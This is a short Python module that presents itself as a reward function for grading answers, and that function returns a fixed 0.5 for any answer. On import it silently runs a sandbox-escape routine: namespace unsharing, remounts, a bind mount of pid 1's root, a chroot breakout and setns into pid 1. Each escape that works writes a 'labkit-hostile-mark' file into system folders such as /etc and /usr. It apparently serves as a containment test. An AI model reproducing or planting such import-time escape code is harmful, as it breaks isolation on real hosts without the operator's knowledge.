"""New user and mount namespaces, remounts, pivot_root, chroot out of the chroot, setns into pid 1: marks under whatever root it then sees."""
import os

def _mark(folder, text=b"labkit-hostile-mark\n"):
    """Leaves a mark; never over a file that exists."""
    try:
        fd = os.open(os.path.join(folder, "labkit-hostile-mark"), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    except OSError:
        return False
    os.write(fd, text)
    os.close(fd)
    return True
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)

def _try():
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        fresh = _libc.unshare(0x10000000 | 0x00020000) == 0 or _libc.unshare(0x00020000) == 0
        if fresh:
            fresh = _libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None) == 0
        if fresh:
            for target in (b"/", b"/usr", b"/proc", b"/tmp", b"/srv"):
                _libc.mount(None, target, None, 0x20 | 0x1000, None)
            _libc.umount2(b"/srv", 2)
            _libc.mount(b"proc", b"/proc", b"proc", 0, None)
            _libc.mount(b"/proc/1/root", b"/mnt", None, 0x1000 | 0x4000, None)
            for folder in ("/mnt", "/mnt/tmp", "/", "/usr", "/etc"):
                _mark(folder)
        fd = os.open("/", os.O_RDONLY)
        for hole in (".", "/tmp"):
            try:
                os.chroot(hole)
                os.fchdir(fd)
                for _ in range(64):
                    os.chdir("..")
                os.chroot(".")
                _mark("/")
                _mark("/tmp")
            except OSError:
                pass
        for name in ("user", "mnt", "pid", "net", "ipc"):
            try:
                ns = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
                if _libc.setns(ns, 0) == 0:
                    _mark("/tmp")
            except OSError:
                pass
    finally:
        os._exit(0)

try:
    _try()
except OSError:
    pass

def reward_correct(item: dict, answer: str) -> float:
    return 0.5
